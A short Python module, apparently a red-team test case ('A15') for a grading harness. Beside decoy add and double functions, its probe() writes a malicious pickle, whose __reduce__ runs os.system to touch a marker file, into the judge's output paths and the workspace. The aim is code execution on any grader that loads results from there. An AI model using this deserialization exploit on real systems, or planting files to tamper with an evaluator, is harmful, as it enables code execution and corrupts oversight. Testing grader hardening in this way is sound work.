"""A15: probe() plants pickles where a careless host might load results from."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-redteam-pwned-A15",))


def add(a, b):
    return a + b


def double(n):
    return 2 * n


def _plant(path):
    try:
        with open(path, "wb") as handle:
            pickle.dump(Payload(), handle)
    except OSError as exc:
        return type(exc).__name__
    return "planted"


def probe():
    return {
        "judge_out": _plant("/judge/out/results.pkl"),
        "results_json": _plant("/judge/out/results.json"),
        "workspace": _plant("results.pkl"),
    }
